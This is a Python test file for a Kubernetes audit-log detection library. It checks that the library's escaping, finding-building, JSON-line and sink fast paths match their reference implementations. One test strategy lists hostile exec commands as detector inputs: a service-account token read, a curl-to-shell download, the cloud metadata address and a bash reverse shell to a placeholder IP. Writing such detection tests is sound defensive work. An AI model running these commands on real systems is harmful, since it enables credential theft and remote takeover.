"""The per-finding fast paths (one printable-ASCII check for an event's fields or a list of strings,
event fields built once per event, blocking sinks written inline) give exactly what escaping every
field one by one gives."""

from __future__ import annotations

import io

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kubestrata.detect.escape import clean, clean_any
from kubestrata.detect.event import AuditEvent
from kubestrata.detect.factory import escaped_event_ref, event_ref
from kubestrata.detect.sinks import MemorySink, StreamSink
from kubestrata.findings import EventRef, Finding, Layer, Severity

TEXT = st.text(alphabet=st.sampled_from(list("abc-/:. \t\n\x1b\x7f\x9b\u202e\u2028é")), max_size=80)


def _event(user: str, ua: str, name: str, ip: str, uri_tail: str) -> AuditEvent:
    return AuditEvent(
        {
            "kind": "Event",
            "apiVersion": "audit.k8s.io/v1",
            "auditID": "a-1",
            "stage": "ResponseComplete",
            "verb": "create",
            "requestURI": "/api/v1/namespaces/ns/pods/" + uri_tail,
            "user": {"username": user},
            "sourceIPs": [ip, "10.0.0.1"],
            "userAgent": ua,
            "objectRef": {"resource": "pods", "namespace": "ns", "name": name, "subresource": "exec"},
            "responseStatus": {"code": 101},
            "requestReceivedTimestamp": "2026-11-27T10:00:00Z",
            "stageTimestamp": "2026-11-27T10:00:00Z",
        }
    )


def _finding(i: int) -> Finding:
    ref = EventRef("k8saudit", f"a-{i}", "ResponseComplete")
    return Finding("KS-AUD-F01", "t", Severity.LOW, Layer.CLUSTER, str(i), event=ref, time="")


@settings(max_examples=200, deadline=None)
@given(TEXT, TEXT, TEXT, TEXT, TEXT, st.integers(0, 700))
def test_event_fields_fast_path_equals_escaping_each_field(user, ua, name, ip, tail, pad) -> None:
    ev = _event(user or "u", ua + "y" * pad, name, ip, tail)
    assert event_ref(ev) == escaped_event_ref(ev)


@settings(max_examples=200, deadline=None)
@given(st.lists(TEXT, max_size=70), st.integers(1, 60))
def test_list_fast_path_equals_escaping_each_item(items, limit) -> None:
    assert clean_any(items, limit) == [clean(s, limit) for s in items[:64]]
    assert clean_any(tuple(items), limit) == [clean(s, limit) for s in items[:64]]


def test_inline_sinks_write_everything_in_order() -> None:
    buf = io.BytesIO()
    mem, out = MemorySink(block=True), StreamSink(buf, block=True)
    assert mem.inline and out.inline and not MemorySink().inline
    for i in range(5):
        for s in (mem, out):
            s.submit(_finding(i))
    for s in (mem, out):
        s.close()
    assert [f.message for f in mem.items] == [str(i) for i in range(5)]
    assert [orjson.loads(x)["message"] for x in buf.getvalue().splitlines()] == [str(i) for i in range(5)]
    assert mem.delivered == out.delivered == 5


QUERY = st.text(alphabet=st.sampled_from(list("comandsh=&%+20x7C#?/-é\t ")), max_size=60)


@settings(max_examples=400, deadline=None)
@given(QUERY, st.lists(st.text(alphabet=st.sampled_from(list("ab %+&=/|;\\x1b")), max_size=8), max_size=4))
def test_exec_command_fast_path_equals_parse_qs(tail, args) -> None:
    from urllib.parse import parse_qs, quote, urlsplit

    uri = "/api/v1/namespaces/ns/pods/web/exec?" + "&".join("command=" + quote(a) for a in args) + tail
    raw = _event("u", "ua", "web", "10.0.0.1", "").raw
    ev = AuditEvent({**raw, "requestURI": uri})
    want = parse_qs(urlsplit(uri).query, keep_blank_values=True).get("command") or []
    assert ev.exec_command() == want


def test_factory_builds_the_finding_the_dataclass_would() -> None:
    """The factory's positional Finding and slot-set Evidence equal the keyword-built ones."""
    from kubestrata.detect.catalogue import CATALOGUE
    from kubestrata.detect.factory import FindingFactory
    from kubestrata.detect.rules import Hit
    from kubestrata.findings import Evidence

    ev = _event("alice", "kubectl", "web", "10.0.0.1", "exec?command=id")
    spec = CATALOGUE["KS-AUD-F11"]
    f = FindingFactory()(spec, Hit(spec.id, "m\x1b", [("a", "x"), ("b", ["1", 2])]), ev)
    want = Finding(spec.id, spec.title, spec.severity, Layer.CLUSTER, "m\\x1b",
                   evidence=[Evidence("a", "x"), Evidence("b", ["1", 2])], references=spec.references(),
                   time=ev.timestamp, event=f.event, _fingerprint=f.fingerprint)  # fmt: skip
    assert f == want


@settings(max_examples=300, deadline=None)
@given(TEXT, st.integers(0, 600), st.sampled_from(["", "é", "\x7f", "x"]))
def test_factory_message_is_the_message_cleaned(text, pad, tail) -> None:
    """The factory keeps a short printable ASCII message as it is (clean's usual case, inline) and
    cleans any other: the message is clean(message) either way."""
    from kubestrata.detect.catalogue import CATALOGUE
    from kubestrata.detect.factory import FindingFactory
    from kubestrata.detect.rules import Hit

    ev = _event("alice", "kubectl", "web", "10.0.0.1", "exec?command=id")
    spec = CATALOGUE["KS-AUD-F11"]
    message = text + "m" * pad + tail
    assert FindingFactory()(spec, Hit(spec.id, message, []), ev).message == clean(message)


# -- the JSON line from precomputed parts (detect/jsonlines.py) --

VALUE = st.recursive(
    st.none() | st.booleans() | st.integers(-(2**63), 2**63 - 1) | TEXT,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(TEXT, inner, max_size=4),
    max_leaves=8,
)


@st.composite
def _refs(draw: st.DrawFn) -> EventRef:
    return EventRef(
        draw(st.sampled_from(["k8saudit", "k8saudit", "tetragon", "cloudtrail", "sequence"])),
        draw(TEXT), draw(st.sampled_from(["ResponseComplete", "ResponseStarted", ""])), draw(TEXT), draw(TEXT),
        draw(TEXT), draw(TEXT), draw(TEXT), draw(TEXT), draw(TEXT), draw(TEXT), draw(TEXT),
        tuple(draw(st.lists(TEXT, max_size=3))), draw(TEXT), draw(st.none() | st.integers(100, 599)),
    )  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(
    st.lists(_refs(), min_size=1, max_size=3),
    st.lists(
        st.tuples(
            st.integers(0, 2), st.sampled_from(["KS-AUD-F11", "KS-AUD-G42", "KS-AUD-N08"]), TEXT,
            st.sampled_from(list(Severity)), TEXT, st.none() | TEXT,
            st.lists(st.tuples(TEXT, VALUE), max_size=3), st.integers(0, 2),
            st.none() | st.dictionaries(st.sampled_from(["process", "container"]), VALUE, max_size=2),
        ),
        min_size=1, max_size=8,
    ),
)  # fmt: skip
def test_json_line_equals_the_record_dumped(refs, rows) -> None:
    """Whatever the values (escaped or not, shared event or not, a rule's references dict shared or
    a new one), json_line gives the bytes of orjson.dumps(to_dict())."""
    from kubestrata.detect.jsonlines import json_line
    from kubestrata.findings import Evidence

    shared = [{"mitre": ["T1609"]}, {"falco": ["x"], "sigma": []}, {}]
    for ref_i, rid, title, sev, msg, time, ev, refs_i, details in rows:
        f = Finding(rid, title, sev, Layer.CLUSTER, msg, evidence=[Evidence(p, v) for p, v in ev],
                    references=shared[refs_i] if refs_i < 2 else {"mitre": [title]}, time=time,
                    event=refs[ref_i % len(refs)], _fingerprint=f"{hash(msg) & 0xFFFF:032x}", details=details)  # fmt: skip
        assert json_line(f) == orjson.dumps(f.to_dict())
        f._fingerprint = None  # (the property's own fingerprint)
        assert json_line(f) == orjson.dumps(f.to_dict())
        f._fingerprint = None  # (the property's own fingerprint)
        assert json_line(f) == orjson.dumps(f.to_dict())


def test_json_line_of_a_scan_finding_is_its_record() -> None:
    from kubestrata.detect.jsonlines import json_line

    f = Finding("KS-WL-001", "t", Severity.HIGH, Layer.CLUSTER, "m")
    assert json_line(f) == orjson.dumps(f.to_dict())


@settings(max_examples=300, deadline=None)
@given(TEXT, TEXT, TEXT, st.lists(st.tuples(st.sampled_from(["a", "anomaly", "requestURI?command"]), VALUE),
                                  max_size=3), st.booleans())  # fmt: skip
def test_factory_fingerprint_and_evidence_json_equal_the_reference(
    user, name, msg, evidence, foreign
) -> None:
    """The factory's fingerprint (the identity encoded once per event) is findings.fingerprint of the
    rule and identity with the shown evidence's JSON; the evidence JSON it hands to json_line is what
    json_line would dump (values it cannot write, an anomaly note: none handed over)."""
    from kubestrata.detect.catalogue import CATALOGUE
    from kubestrata.detect.factory import FindingFactory
    from kubestrata.detect.jsonlines import json_line
    from kubestrata.detect.rules import Hit
    from kubestrata.findings import fingerprint

    ev = _event(user or "u", "kubectl", name, "10.0.0.1", "exec?command=id")
    if foreign:
        evidence = [*evidence, ("b", {1, 2})]  # not JSON: the fingerprint writes str(value)
    build = FindingFactory()
    for rid in ("KS-AUD-F11", "KS-AUD-G42"):  # two findings of one event
        f = build(CATALOGUE[rid], Hit(rid, msg, list(evidence)), ev)
        shown = [{"path": e.path, "value": e.observed} for e in f.evidence if e.path != "anomaly"]
        identity = (rid, ev.cluster, ev.user, ev.verb, ev.resource, ev.subresource, ev.namespace, ev.name)
        assert f.fingerprint == fingerprint(("\x1f".join(identity),), orjson.dumps(shown, default=str))
        if f.evidence_json is not None:
            assert f.evidence_json == orjson.dumps(
                [{"path": e.path, "value": e.observed} for e in f.evidence]
            )
        if not foreign:
            assert json_line(f) == orjson.dumps(f.to_dict())
        assert (f.evidence_json is None) == (foreign or any(p == "anomaly" for p, _ in evidence))


CMD = st.lists(st.sampled_from(["tar", "cf", "-", "sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
                                "curl http://x | sh", "169.254.169.254", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "id"]),
               max_size=4)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(CMD, min_size=1, max_size=6))
def test_exec_verdicts_remembered_across_events_equal_searching_each_command(cmds) -> None:
    from urllib.parse import quote

    from kubestrata.detect.rules.exec_commands import _SUSPICIOUS, _is_tar_to_stdout, _verdict
    from kubestrata.detect.rules.lists import SA_TOKEN

    for cmd in cmds:
        uri = "/api/v1/namespaces/ns/pods/web/exec?" + "&".join("command=" + quote(a) for a in cmd)
        ev = AuditEvent({**_event("u", "ua", "web", "10.0.0.1", "").raw, "requestURI": uri})
        text = " ".join(cmd)
        want = (_is_tar_to_stdout(cmd), bool(cmd and SA_TOKEN.search(text)),
                tuple(why for rx, why in _SUSPICIOUS if rx.search(text)))  # fmt: skip
        assert tuple(_verdict(ev)) == want


# -- one serialisation per event (factory.event_parts), evidence items remembered across events --

HOSTILE = st.text(
    alphabet=st.sampled_from(list('abc-/:. "\\\t\n\x00\x1b\x7f\x9b\u202e\u2028é\ud800')), max_size=40
)


@st.composite
def _hostile_events(draw: st.DrawFn) -> AuditEvent:
    """Audit events whose client-chosen fields carry escapes, quotes, backslashes, control and bidi
    characters, lone surrogates, and lengths on either side of every cap."""

    def value(cap: int) -> str:
        text = draw(HOSTILE)
        return text + "x" * draw(
            st.sampled_from([0, 0, max(0, cap - len(text)), cap + 1 - len(text), cap + 40])
        )

    raw = _event(value(512), value(256), value(253), value(64), "").raw
    ips = [value(64) for _ in range(draw(st.integers(0, 18)))]
    code = draw(st.none() | st.integers(-(2**63), 2**63 - 1) | st.just(2**70))
    ref = {"resource": value(128), "namespace": value(253), "name": value(253), "subresource": value(64)}
    return AuditEvent(
        {**raw, "auditID": value(64), "verb": value(64), "requestURI": "/" + value(511), "sourceIPs": ips,
         "objectRef": ref, "stageTimestamp": value(64), "responseStatus": {"code": code}},
        cluster=value(253),
    )  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(_hostile_events())
def test_event_parts_equal_the_reference_escaping_each_field(ev) -> None:
    """event_parts' reference and time are event_ref's (each field escaped and capped), its identity
    the raw fields', and the JSON-line part it hands to json_line is what json_line builds itself."""
    from kubestrata.detect.factory import event_parts
    from kubestrata.detect.jsonlines import _event_part

    ref, ts, identity = event_parts(ev)
    assert (ref, ts) == escaped_event_ref(ev) == event_ref(ev)
    fields = (ev.cluster, ev.user, ev.verb, ev.resource, ev.subresource, ev.namespace, ev.name)
    assert identity == "\x1f".join(("", *fields)).encode("utf-8", "replace")
    if ref._line_part is not None:
        assert ref._line_part == (ts, b',"time":' + orjson.dumps(ts) + _event_part(ref))


def test_event_parts_take_the_one_serialisation_for_the_usual_event() -> None:
    from kubestrata.detect.factory import event_parts

    plain = _event("alice", "kubectl/v1.29", "web", "10.0.0.1", "exec?command=id")
    assert event_parts(plain)[0]._line_part is not None
    for hostile in ({"userAgent": 'say "hi"'}, {"userAgent": "a\x7f"}, {"userAgent": "y" * 257}):
        assert event_parts(AuditEvent({**plain.raw, **hostile}))[0]._line_part is None


def test_a_reference_replaced_or_built_by_hand_has_no_line_part() -> None:
    import dataclasses

    from kubestrata.detect.factory import event_parts
    from kubestrata.detect.jsonlines import json_line

    ref = event_parts(_event("alice", "kubectl", "web", "10.0.0.1", ""))[0]
    moved = dataclasses.replace(ref, namespace="other")
    assert moved._line_part is None
    f = Finding("KS-AUD-F11", "t", Severity.LOW, Layer.CLUSTER, "m", event=moved, time=ref._line_part[0])
    assert json_line(f) == orjson.dumps(f.to_dict())
    assert b'"namespace":"other"' in json_line(f)


ITEM_VALUE = st.one_of(
    HOSTILE,
    st.lists(HOSTILE, max_size=3),
    st.lists(st.sampled_from([1, 1.0, True, "1", None]), max_size=3),  # equal keys of other types
    st.lists(HOSTILE, min_size=65, max_size=66),
    HOSTILE.map(lambda s: s + "y" * 520),  # over the cap, not remembered
    st.lists(HOSTILE.map(lambda s: s + "z" * 1400), min_size=3, max_size=3),  # over 4 KiB together
    st.tuples(HOSTILE),
    st.dictionaries(HOSTILE, HOSTILE, max_size=2),
    st.integers(0, 2) | st.booleans() | st.none(),
)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(st.tuples(st.sampled_from(["a", "anomaly", "requestURI?command"]), ITEM_VALUE),
                         max_size=3), min_size=1, max_size=6))  # fmt: skip
def test_evidence_items_remembered_across_events_equal_escaping_each(evidences) -> None:
    """Whatever the evidence (repeated from event to event or not, strings, lists of strings, lists
    whose items are equal but of other types, values not remembered), the factory's evidence is each
    value escaped anew, its fingerprint and evidence JSON those of that evidence."""
    from kubestrata.detect import factory
    from kubestrata.detect.catalogue import CATALOGUE
    from kubestrata.detect.rules import Hit
    from kubestrata.findings import Evidence, fingerprint

    build = factory.FindingFactory()
    spec = CATALOGUE["KS-AUD-F11"]
    for i, evidence in enumerate([*evidences, *evidences]):
        ev = _event("u", "kubectl", f"web-{i % 2}", "10.0.0.1", "")
        try:
            f = build(spec, Hit(spec.id, "m", list(evidence)), ev)
        except TypeError:  # a lone surrogate is not JSON: an error with nothing remembered too
            factory._items.clear()
            with pytest.raises(TypeError):
                factory.FindingFactory()(spec, Hit(spec.id, "m", list(evidence)), ev)
            continue
        want = [Evidence(p, clean(v) if isinstance(v, str) else clean_any(v)) for p, v in evidence]
        assert f.evidence == want
        assert [type(e.observed) for e in f.evidence] == [type(e.observed) for e in want]
        shown = [{"path": e.path, "value": e.observed} for e in want if e.path != "anomaly"]
        identity = (spec.id, ev.cluster, ev.user, ev.verb, ev.resource, ev.subresource, ev.namespace, ev.name)
        assert f.fingerprint == fingerprint(("\x1f".join(identity),), orjson.dumps(shown, default=str))
        if f.evidence_json is not None:
            assert f.evidence_json == orjson.dumps([{"path": e.path, "value": e.observed} for e in want])


def test_evidence_of_equal_values_of_other_types_is_not_shared() -> None:
    from kubestrata.detect.catalogue import CATALOGUE
    from kubestrata.detect.factory import FindingFactory
    from kubestrata.detect.rules import Hit

    build = FindingFactory()
    spec = CATALOGUE["KS-AUD-F11"]
    ev = _event("u", "kubectl", "web", "10.0.0.1", "")
    seen = [
        build(spec, Hit(spec.id, "m", [("a", v)]), ev).evidence_json for v in ([1], [1.0], [True], ["1"], "1")
    ]
    assert seen == [b'[{"path":"a","value":[1]}]', b'[{"path":"a","value":[1.0]}]',
                    b'[{"path":"a","value":[true]}]', b'[{"path":"a","value":["1"]}]', b'[{"path":"a","value":"1"}]']  # fmt: skip


# -- the inline sinks' one-call delivery --


def test_inline_stream_sink_delivers_in_one_call_and_counts_as_before() -> None:
    from kubestrata.detect.falco_output import FalcoStreamSink
    from kubestrata.detect.jsonlines import json_line
    from kubestrata.detect.sinks import CountingSink

    buf = io.BytesIO()
    out = StreamSink(buf, block=True)
    assert out.submit == out._deliver_line  # (_deliver with its write inline: test_sink_delivery.py)
    falco = FalcoStreamSink(io.BytesIO(), block=True)  # its own encoder, through the same call
    count = CountingSink(block=True)
    assert count.submit == count._deliver_count
    threaded = StreamSink(io.BytesIO())
    assert threaded.submit == threaded.__class__.submit.__get__(threaded)
    threaded.close()
    good = [_finding(i) for i in range(3)]
    bad = Finding("KS-AUD-F11", "t", Severity.LOW, Layer.CLUSTER, "\ud800", event=good[0].event, time="")
    for f in [good[0], bad, *good[1:]]:
        for s in (out, falco, count):
            s.submit(f)
    for s in (out, falco, count):
        s.close()
    assert buf.getvalue() == b"".join(json_line(f) + b"\n" for f in good)
    assert (out.delivered, out.failed, out.dropped) == (3, 1, 0)
    assert falco.delivered + falco.failed == 4 and falco.stream.getvalue().count(b"\n") == falco.delivered
    assert count.by_severity == {"low": 4} and all(type(k) is str for k in count.by_severity)

    class Broken(io.BytesIO):
        def write(self, data: bytes) -> int:  # type: ignore[override]
            raise BrokenPipeError

    gone = StreamSink(Broken(), block=True)
    gone.BUFFER_BYTES = 1
    for f in good:
        gone.submit(f)
    assert gone.broken and (gone.delivered, gone.dropped, gone.failed) == (3, 3, 0)


def test_factory_takes_the_general_path_for_odd_shapes() -> None:
    """Source IPs held as a list and an evidence path that is not hashable: what the plain path gives."""
    from kubestrata.detect.catalogue import CATALOGUE
    from kubestrata.detect.factory import FindingFactory, event_parts
    from kubestrata.detect.rules import Hit
    from kubestrata.findings import Evidence

    ev = _event("u", "kubectl", "web", "10.0.0.1", "")
    ev.source_ips = ["10.0.0.1", "10.0.0.2"]  # type: ignore[assignment]
    ref = event_parts(ev)[0]
    assert ref.source_ips == ("10.0.0.1", "10.0.0.2") and (ref, ev.timestamp) == event_ref(ev)
    spec = CATALOGUE["KS-AUD-F11"]
    f = FindingFactory()(spec, Hit(spec.id, "m", [(["a"], "x")]), ev)  # type: ignore[list-item]
    assert f.evidence == [Evidence(["a"], "x")]  # type: ignore[arg-type]
    assert f.evidence_json == b'[{"path":["a"],"value":"x"}]'


# -- the event's JSON part written by formatting (factory.event_parts, sixth pass) --

PLAIN = st.text(alphabet=st.sampled_from(list('ab-/:. ~!#[]{}"\\')), max_size=12)


@st.composite
def _plain_events(draw: st.DrawFn) -> AuditEvent:
    """Audit events of printable ASCII (a quote or backslash now and then), empty optional fields,
    0-18 source IPs of lengths around their cap, codes of every size."""

    def value(cap: int) -> str:  # short, or exactly at or one over its cap
        text = draw(PLAIN)
        return text + "x" * draw(st.sampled_from([0, 0, 0, cap - len(text), cap + 1 - len(text)]))

    raw = _event(value(512), value(256), draw(st.sampled_from(["", "web"])) or value(253), "10.0.0.1", "").raw
    ips = [draw(st.sampled_from(["10.0.0.1", "::1", ""])) + "1" * draw(st.sampled_from([0, 0, 55, 62, 63, 64]))
           for _ in range(draw(st.integers(0, 18)))]  # fmt: skip
    code = draw(st.none() | st.integers(100, 599) | st.integers(-(2**63), 2**64 - 1) | st.just(2**64))
    ref = {"resource": value(128), "namespace": draw(st.sampled_from(["", "ns"])), "name": value(253),
           "subresource": draw(st.sampled_from(["", "exec"]))}  # fmt: skip
    return AuditEvent(
        {**raw, "auditID": value(64), "verb": value(64), "requestURI": "/" + value(511), "sourceIPs": ips,
         "objectRef": ref, "stageTimestamp": value(64), "responseStatus": {"code": code}},
        cluster=draw(st.sampled_from(["", "prod"])),
    )  # fmt: skip


@settings(max_examples=500, deadline=None)
@given(_plain_events())
def test_event_parts_formatted_equal_the_record_serialised(ev) -> None:
    """The formatted JSON part is the serialised record's, and it is taken whenever nothing needs
    escaping or cutting (else event_ref's path, whose reference equals escaping each field)."""
    from kubestrata.detect.factory import event_parts
    from kubestrata.detect.jsonlines import _event_part

    ref, ts, identity = event_parts(ev)
    assert (ref, ts) == escaped_event_ref(ev)
    strings = (ts, ev.cluster, ev.audit_id, ev.stage, ev.user, ev.impersonated_user, ev.verb, ev.resource,
               ev.subresource, ev.namespace, ev.name, ev.uri, ev.user_agent, *ev.source_ips)  # fmt: skip
    unescaped = EventRef("k8saudit", ev.audit_id, ev.stage, ev.cluster, ev.user, ev.impersonated_user, ev.verb,
                         ev.resource, ev.subresource, ev.namespace, ev.name, ev.uri, tuple(ev.source_ips),
                         ev.user_agent, ev.code)  # fmt: skip
    plain = (
        not any('"' in s or "\\" in s for s in strings)
        and (ref, ts) == (unescaped, ev.timestamp)
        and (ev.code is None or -(2**63) <= ev.code < 2**64)
    )
    assert (ref._line_part is not None) == plain
    if plain:
        assert ref._line_part == (ts, b',"time":' + orjson.dumps(ts) + _event_part(ref))
        assert type(ref) is EventRef and ref == event_ref(ev)[0]


# -- a rule's last evidence, remembered (FindingFactory: the rule's record) --

EVIDENCE_VALUE = (
    st.sampled_from(["id", "sh", "exec", "é", "\x1b", "x" * 600])
    | st.lists(st.sampled_from(["sh", "-c", "id\n", "\u202e", "y" * 5000]), max_size=3)
    | st.sampled_from([1, 1.0, True, None, ("sh",), {"a": "b"}])
)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.sampled_from(["KS-AUD-F11", "KS-AUD-G42"]),
            st.lists(st.tuples(st.sampled_from(["a", "b", "anomaly"]), EVIDENCE_VALUE), max_size=3),
            st.booleans(),
        ),
        min_size=1,
        max_size=12,
    )
)
def test_rules_last_evidence_builds_what_a_new_factory_builds(rows) -> None:
    """A factory that remembers each rule's last evidence builds, finding after finding, what a new
    factory (nothing remembered) builds from the same hit, even when a rule changes a list it
    handed over for an earlier event."""
    from kubestrata.detect.catalogue import CATALOGUE
    from kubestrata.detect.factory import FindingFactory
    from kubestrata.detect.rules import Hit

    build = FindingFactory()
    previous: list = []
    for rid, evidence, reuse in rows:
        spec = CATALOGUE[rid]
        # (an event each: within one event the factory takes a list it met as unchanged)
        ev = _event("alice", "kubectl", "web", "10.0.0.1", "exec?command=id")
        if reuse and previous:  # the last hit's evidence, its lists changed in place
            evidence = previous
            for _, v in evidence:
                if type(v) is list:
                    v.append("more")
        got = build(spec, Hit(spec.id, "m", evidence), ev)
        want = FindingFactory()(spec, Hit(spec.id, "m", evidence), ev)
        assert got == want
        assert got.evidence_json == want.evidence_json and got.fingerprint == want.fingerprint
        assert [type(e.observed) for e in got.evidence] == [type(e.observed) for e in want.evidence]
        previous = evidence


# JSON string bodies as a wire line may carry them: every escape form, a raw DEL (which JSON
# parsers accept inside strings), a raw non-ASCII character (read_event declines the line)
_WIRE_PIECE = st.sampled_from(
    ["a", "-", "/", " ", '\\"', "\\\\", "\\/", "\\u0007", "\\u007f", "\\u00e9", "\\ud83d\\ude00", "\\n",
     "\\t", "\x7f", "é", "x" * 70, "y" * 260]
)  # fmt: skip
_WIRE_TEXT = st.lists(_WIRE_PIECE, max_size=4).map("".join)
_WIRE_PLAIN = st.text(alphabet=st.sampled_from(list("ab-/:. ")), max_size=8)
_WIRE_FIELDS = ("id", "uri", "verb", "user", "ip", "ua", "res", "sub", "ns", "name", "ts")


def _wire_line(t: dict[str, str], ips: int = 1, code: str = "101") -> bytes:
    """An audit Event line with these JSON string bodies in every field a finding carries."""
    ip_list = ",".join(f'"{t["ip"]}{i}"' for i in range(ips))
    return (
        f'{{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"{t["id"]}",'
        f'"stage":"ResponseComplete","requestURI":"/{t["uri"]}","verb":"v{t["verb"]}",'
        f'"user":{{"username":"{t["user"]}"}},"sourceIPs":[{ip_list}],"userAgent":"{t["ua"]}",'
        f'"objectRef":{{"resource":"{t["res"]}","namespace":"{t["ns"]}","name":"{t["name"]}",'
        f'"subresource":"{t["sub"]}"}},"responseStatus":{{"code":{code}}},"stageTimestamp":"{t["ts"]}",'
        '"annotations":{"authorization.k8s.io/reason":"RBAC: allowed by \\"x\\""}}'
    ).encode()


@st.composite
def _wire_lines(draw: st.DrawFn) -> bytes:
    """Lines whose fields are plain but for one to three with any of those bodies (so that each
    hostile value meets both the formatted path's checks and the general path), the response code a
    JSON number within 64 bits or not."""
    t = {k: draw(_WIRE_PLAIN) for k in _WIRE_FIELDS}
    for k in draw(st.lists(st.sampled_from(_WIRE_FIELDS), min_size=1, max_size=3)):
        t[k] = draw(_WIRE_TEXT)
    code = draw(st.sampled_from(["101", "-1", "9223372036854775807", "18446744073709551616", "1e3", "null"]))
    return _wire_line(t, draw(st.integers(0, 3)), code)


@settings(max_examples=600, deadline=None)
@given(_wire_lines(), st.text(alphabet=st.sampled_from(list('ab"\\\x7f\t')), max_size=3))
def test_event_parts_of_events_read_from_the_wire_equal_the_reference(line, cluster) -> None:
    """An event read by detect/wire.py (the replay's usual event): event_parts' reference and time
    are event_ref's, and its finding's JSON line is its record dumped."""
    from kubestrata.detect.catalogue import CATALOGUE
    from kubestrata.detect.factory import FindingFactory, event_parts
    from kubestrata.detect.jsonlines import json_line
    from kubestrata.detect.rules import Hit
    from kubestrata.detect.wire import read_event

    ev = read_event(line, cluster)
    if ev is None:  # (orjson's path: AuditEvent(dict), tested above)
        return
    ref, ts, identity = event_parts(ev)
    assert (ref, ts) == escaped_event_ref(ev) == event_ref(ev)
    fields = (ev.cluster, ev.user, ev.verb, ev.resource, ev.subresource, ev.namespace, ev.name)
    assert identity == "\x1f".join(("", *fields)).encode("utf-8", "replace")
    f = FindingFactory()(CATALOGUE["KS-AUD-F11"], Hit("KS-AUD-F11", "m", [("a", "b")]), ev)
    assert json_line(f) == orjson.dumps(f.to_dict())


@pytest.mark.parametrize("field", _WIRE_FIELDS)
def test_wire_events_take_the_one_serialisation_only_when_nothing_needs_escaping(field) -> None:
    """Events read from the wire reach both paths: nothing to escape, the formatted part; a quote,
    backslash, control character, DEL, non-ASCII or over-cap value in any field, the general one."""
    from kubestrata.detect.factory import event_parts
    from kubestrata.detect.wire import read_event

    plain = dict.fromkeys(_WIRE_FIELDS, "p")
    ev = read_event(_wire_line(plain), "c")
    assert ev is not None and event_parts(ev)[0]._line_part is not None
    for body in ('\\"', "\\\\", "\\u0007", "\\u007f", "\x7f", "\\u00e9", "x" * 520):
        ev = read_event(_wire_line({**plain, field: body}), "c")
        assert ev is not None, body
        assert event_parts(ev)[0]._line_part is None, body
    ev = read_event(_wire_line({**plain, field: "\\/"}), "c")  # (an escaped solidus is a plain "/")
    assert ev is not None and event_parts(ev)[0]._line_part is not None
